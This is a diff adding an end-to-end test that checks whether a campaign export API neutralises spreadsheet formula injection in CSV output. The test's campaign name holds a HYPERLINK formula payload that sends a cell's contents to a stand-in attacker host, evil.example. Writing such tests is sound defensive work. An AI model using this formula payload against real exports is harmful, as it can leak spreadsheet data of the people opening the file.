@@ -274,6 +274,31 @@ describeAs(
         ),
       ).toBe(true);
     });
+
+    test("a campaign named like a spreadsheet formula is exported as text", async ({ page }) => {
+      // anyone who creates campaigns chooses the name a colleague's spreadsheet opens
+      const name = `=HYPERLINK("http://evil.example/?"&A1,"Open") ${Date.now()}`;
+      const templates = await getJson<{ items: { text: string }[] }>(page, "/api/viber/templates");
+      const res = await page.request.post("/api/viber/campaigns", {
+        headers: { Origin: origin(), "Idempotency-Key": crypto.randomUUID() },
+        data: {
+          task_name: name,
+          message_type: 3,
+          sender_id: 1,
+          message_live_time: 3600,
+          send_date: "now",
+          recipients: newPhones(1),
+          message: templates.items[0]!.text,
+        },
+      });
+      expect(res.status()).toBe(200);
+      const csv = await page.request.get(
+        `/api/viber/campaigns?${new URLSearchParams({ format: "csv", q: name.slice(-13) })}`,
+      );
+      expect(csv.status()).toBe(200);
+      const [, line] = (await csv.text()).trim().split("\n");
+      expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"") `);
+    });
   },
 );
 
